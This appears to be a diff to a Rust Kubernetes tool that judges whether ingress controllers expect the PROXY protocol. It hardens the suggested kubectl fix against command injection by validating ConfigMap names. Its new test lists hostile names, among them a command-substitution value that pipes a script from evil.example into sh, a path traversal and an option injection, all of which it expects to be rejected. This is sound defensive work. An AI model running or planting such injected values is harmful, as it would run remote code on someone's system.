@@ -4,10 +4,10 @@
 
 use std::collections::BTreeMap;
 
-use serde_json::Value;
+use serde_json::{Value, json};
 
 use crate::facts::{BackendFacts, Container, Looked};
-use crate::finding::Evidence;
+use crate::finding::{Evidence, Fix};
 
 /// What an application expects.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -30,22 +30,17 @@ pub struct Judgement {
     pub expects: Expectation,
     /// Where that was read.
     pub evidence: Vec<Evidence>,
-    /// What switches it on, as a command where there is one.
-    pub switch: String,
+    /// What switches it on; absent where nobody knows what configures it.
+    pub switch: Option<Fix>,
 }
 
 impl Judgement {
-    fn new(program: &'static str, expects: Expectation, evidence: Evidence, switch: String) -> Self {
-        Self { program, expects, evidence: vec![evidence], switch }
+    fn new(program: &'static str, expects: Expectation, evidence: Evidence, switch: Fix) -> Self {
+        Self { program, expects, evidence: vec![evidence], switch: Some(switch) }
     }
 
     fn unknown(program: &'static str, why: impl Into<String>) -> Self {
-        Self {
-            program,
-            expects: Expectation::Unknown(why.into()),
-            evidence: Vec::new(),
-            switch: String::new(),
-        }
+        Self { program, expects: Expectation::Unknown(why.into()), evidence: Vec::new(), switch: None }
     }
 }
 
@@ -103,6 +98,16 @@ fn flag<'a>(container: &'a Container, name: &str) -> Option<&'a str> {
     })
 }
 
+/// Whether an object of Kubernetes can have this name. Whoever writes the arguments of a pod may write anything, and the name goes
+/// into a path of the API server and into a command.
+pub fn is_object_name(name: &str) -> bool {
+    let is_label = |label: &str| {
+        let inner = |letter: u8| letter.is_ascii_lowercase() || letter.is_ascii_digit() || letter == b'-';
+        label.bytes().all(inner) && !label.is_empty() && !label.starts_with('-') && !label.ends_with('-')
+    };
+    name.len() <= 253 && name.split('.').all(is_label)
+}
+
 fn config_map<'a>(
     facts: &'a BackendFacts,
     container: &Container,
@@ -134,6 +139,10 @@ fn by_config_map(
         let text = format!("its ConfigMap could not be found by the flag --{map_flag}");
         return Judgement::unknown(program, text);
     };
+    if !name.split('/').all(is_object_name) {
+        let text = format!("its flag --{map_flag} names {name:?}, which is no name of a ConfigMap");
+        return Judgement::unknown(program, text);
+    }
     let data = match data {
         Ok(data) => data,
         Err(cause) => {
@@ -141,9 +150,8 @@ fn by_config_map(
         }
     };
     let (namespace, short) = name.split_once('/').unwrap_or(("", name));
-    let switch = format!(
-        "kubectl --namespace {namespace} patch configmap {short} --type merge --patch '{{\"data\":{{\"{key}\":\"{on}\"}}}}'"
-    );
+    let patch = json!({"data": {key: on}}).to_string();
+    let switch = Fix::kubectl(namespace, ["patch", "configmap", short, "--type", "merge", "--patch", &patch]);
     let value = data.get(key);
     let expectation = value.map_or(Expectation::Off, |value| expects(value.trim()));
     let shown = value.map_or("absent", String::as_str);
@@ -181,7 +189,7 @@ fn by_resource(
     facts: &BackendFacts,
     program: &'static str,
     kind: &str,
-    switch: &str,
+    switch: &'static str,
     read: impl Fn(&Value) -> Option<(Expectation, String)>,
 ) -> Judgement {
     if let Some(cause) = facts.unread.get(kind) {
@@ -192,11 +200,11 @@ fn by_resource(
     match said {
         Some((resource, (expects, field))) => {
             let object = format!("{kind} {}", resource.name);
-            Judgement::new(program, expects, Evidence::new(object, field, "set"), switch.to_owned())
+            Judgement::new(program, expects, Evidence::new(object, field, "set"), switch.into())
         }
         None => {
             let evidence = Evidence::new(kind, "PROXY protocol", "not switched on in any");
-            Judgement::new(program, Expectation::Off, evidence, switch.to_owned())
+            Judgement::new(program, Expectation::Off, evidence, switch.into())
         }
     }
 }
@@ -232,21 +240,21 @@ fn traefik(facts: &BackendFacts) -> Option<Judgement> {
         let word = word.to_ascii_lowercase();
         word.starts_with("--entrypoints.") && word.contains(".proxyprotocol.")
     };
-    let switch = "--entryPoints.NAME.proxyProtocol.trustedIPs=CIDR of the load balancer".to_owned();
+    let switch = "--entryPoints.NAME.proxyProtocol.trustedIPs=CIDR of the load balancer";
     let pod = format!("pod {}", facts.pod);
     if let Some(word) = container.words.iter().find(of_proxy) {
         return Some(Judgement::new(
             "Traefik",
             Expectation::Either,
             Evidence::new(pod, "argument", word),
-            switch,
+            switch.into(),
         ));
     }
     if flag(container, "configfile").is_some() {
         return Some(Judgement::unknown("Traefik", "its configuration is in a file, which is not read"));
     }
     let evidence = Evidence::new(pod, "arguments", "no proxyProtocol of an entry point");
-    Some(Judgement::new("Traefik", Expectation::Off, evidence, switch))
+    Some(Judgement::new("Traefik", Expectation::Off, evidence, switch.into()))
 }
 
 fn contour(facts: &BackendFacts) -> Option<Judgement> {
@@ -275,13 +283,12 @@ fn contour(facts: &BackendFacts) -> Option<Judgement> {
 
 fn istio(facts: &BackendFacts) -> Option<Judgement> {
     container(facts, &["istio/proxyv2", "proxyv2"], &[])?;
-    let switch =
-        "pod annotation proxy.istio.io/config: '{\"gatewayTopology\": {\"proxyProtocol\": {}}}'".to_owned();
+    let switch = "pod annotation proxy.istio.io/config: '{\"gatewayTopology\": {\"proxyProtocol\": {}}}'";
     if let Some(config) = facts.annotations.get("proxy.istio.io/config")
         && config.contains("proxyProtocol")
     {
         let evidence = Evidence::new(format!("pod {}", facts.pod), "proxy.istio.io/config", config);
-        return Some(Judgement::new("Istio", Expectation::Required, evidence, switch));
+        return Some(Judgement::new("Istio", Expectation::Required, evidence, switch.into()));
     }
     match facts.config_maps.get("istio-system/istio") {
         Some(Ok(data)) => {
@@ -290,7 +297,7 @@ fn istio(facts: &BackendFacts) -> Option<Judgement> {
             let expects = if on { Expectation::Required } else { Expectation::Off };
             let shown = if on { "gatewayTopology.proxyProtocol" } else { "no proxyProtocol" };
             let evidence = Evidence::new("ConfigMap istio-system/istio", "mesh", shown);
-            Some(Judgement::new("Istio", expects, evidence, switch))
+            Some(Judgement::new("Istio", expects, evidence, switch.into()))
         }
         Some(Err(cause)) => {
             Some(Judgement::unknown("Istio", format!("ConfigMap istio-system/istio cannot be read: {cause}")))
@@ -310,12 +317,12 @@ fn cilium(facts: &BackendFacts) -> Option<Judgement> {
     } else {
         "enable-gateway-api-proxy-protocol"
     };
-    let switch = "Helm: ingressController.enableProxyProtocol or gatewayAPI.enableProxyProtocol".to_owned();
+    let switch = "Helm: ingressController.enableProxyProtocol or gatewayAPI.enableProxyProtocol";
     match facts.config_maps.get("kube-system/cilium-config") {
         Some(Ok(data)) => {
             let value = data.get(key).map_or("absent", String::as_str);
             let evidence = Evidence::new("ConfigMap kube-system/cilium-config", key, value);
-            Some(Judgement::new("Cilium", required_if_true(value), evidence, switch))
+            Some(Judgement::new("Cilium", required_if_true(value), evidence, switch.into()))
         }
         Some(Err(cause)) => Some(Judgement::unknown(
             "Cilium",
@@ -328,7 +335,6 @@ fn cilium(facts: &BackendFacts) -> Option<Judgement> {
 #[cfg(test)]
 mod tests {
     use rstest::rstest;
-    use serde_json::json;
 
     use super::*;
     use crate::facts::CustomResource;
@@ -365,10 +371,10 @@ mod tests {
         );
         let judgement = judge(&facts);
         assert_eq!((judgement.program, judgement.expects), ("ingress-nginx", expected));
-        assert!(
-            judgement
-                .switch
-                .starts_with("kubectl --namespace ingress patch configmap ingress-nginx-controller")
+        assert_eq!(
+            judgement.switch.unwrap().to_string(),
+            "kubectl --namespace ingress patch configmap ingress-nginx-controller --type merge \
+             --patch '{\"data\":{\"use-proxy-protocol\":\"true\"}}'"
         );
     }
 
@@ -380,6 +386,18 @@ mod tests {
         let Expectation::Unknown(why) = judge(&facts).expects else { panic!("it is known") };
         assert!(why.contains("forbidden"), "{why}");
         assert!(matches!(judge(&running("example.org/shop:1", &[])).expects, Expectation::Unknown(_)));
+    }
+
+    /// Whoever may run a pod may write its arguments.
+    #[test]
+    fn a_name_that_no_config_map_can_have_is_not_known() {
+        for name in ["nginx?$(curl${IFS}evil.example|sh)", "a b", "../secrets/x", "-n", ""] {
+            let flag = format!("--configmap=ns/{name}");
+            let facts = running(NGINX, &["/nginx-ingress-controller", &flag]);
+            let judgement = judge(&with_map(facts, &format!("ns/{name}"), "use-proxy-protocol", None));
+            assert!(matches!(judgement.expects, Expectation::Unknown(_)), "{name}");
+            assert_eq!(judgement.switch, None, "{name}");
+        }
     }
 
     #[test]
